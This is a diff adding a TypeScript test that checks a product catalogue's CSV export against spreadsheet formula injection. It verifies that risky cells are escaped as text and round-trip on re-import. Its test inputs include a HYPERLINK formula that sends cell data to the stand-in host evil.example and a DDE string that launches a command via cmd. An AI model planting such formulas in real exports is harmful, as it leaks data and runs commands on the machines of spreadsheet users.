@@ -12,6 +12,7 @@ import {
   importSummarySchema,
   type ImportBadRow,
 } from '../../src/api/schemas/catalog-import.ts';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { IMPORT_MESSAGES, skuSeenAt, variationSkuSeenAt } from '../../src/lib/catalog-import.ts';
 import { productTag } from '../../src/lib/page-tags.ts';
 import { PRODUCT_MESSAGES } from '../../src/lib/product-admin.ts';
@@ -351,6 +352,60 @@ describe('exporting the catalogue', () => {
       unchanged: onSale,
     });
     expect(await exportText(editor.client, 'csv')).toBe(csv);
+  });
+});
+
+describe('formulas in the CSV export', () => {
+  const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")';
+  /** A column a number is written in: a minus there is a number's (`-5`), not a formula. */
+  const NUMBER_COLUMN =
+    /^(?:price|salePrice|stock|variation\.(?:price|salePrice|stock)|fields\.(?:Weight|Screen Size|Battery|Camera|RAM|Storage|Refresh Rate))$/;
+
+  it('are written as text a spreadsheet shows and does not run, and import back as they were', async () => {
+    const product = {
+      ...JSON.parse(EXAMPLE_JSON)[2],
+      sku: 'FORMULA-1',
+      name: HYPERLINK,
+      brand: '+Anker',
+      shortDescription: '@SUM(A1:A9)',
+      description: '\t=1+1\r\n-2',
+      criteria: ['-Budget', "'=quoted"],
+      fields: { Type: "=cmd|' /C calc'!A0", Connectivity: '+84 912 345 678', Weight: -5 },
+    };
+    const res = await importFile(editor.client, JSON.stringify([product]), 'json');
+    expect(res.status, JSON.stringify(res.body)).toBe(200);
+
+    const csv = await exportText(editor.client, 'csv');
+    const [header, ...rows] = parseCsv(csv.replace(/^\uFEFF/, ''), {
+      relax_column_count: true,
+    }) as string[][];
+    const live = rows.flatMap((cells) =>
+      cells
+        .map((cell, i) => [header![i]!, cell] as const)
+        .filter(
+          ([column, cell]) =>
+            /^[=+\-@\t\r]/.test(cell) &&
+            !(NUMBER_COLUMN.test(column) && String(Number(cell)) === cell),
+        ),
+    );
+    expect(live).toEqual([]);
+    const mine = rows.find((cells) => cells[0] === 'FORMULA-1')!;
+    const cell = (column: string) => mine[header!.indexOf(column)];
+    expect(cell('name')).toBe(`'${HYPERLINK}`);
+    expect(cell('criteria')).toBe("'-Budget|'=quoted");
+    expect(cell('fields.Weight')).toBe('-5');
+
+    const again = await importFile(editor.client, csv, 'csv');
+    expect(importSummarySchema.parse(again.body)).toMatchObject({ created: 0, updated: 0 });
+    const [stored] = await bySku(['FORMULA-1']);
+    expect(stored).toMatchObject({
+      name: HYPERLINK,
+      brand: '+Anker',
+      description: '\t=1+1\r\n-2',
+      criteria: ['-Budget', "'=quoted"],
+      fields: { Type: "=cmd|' /C calc'!A0", Connectivity: '+84 912 345 678', Weight: -5 },
+      version: 1,
+    });
   });
 });
 
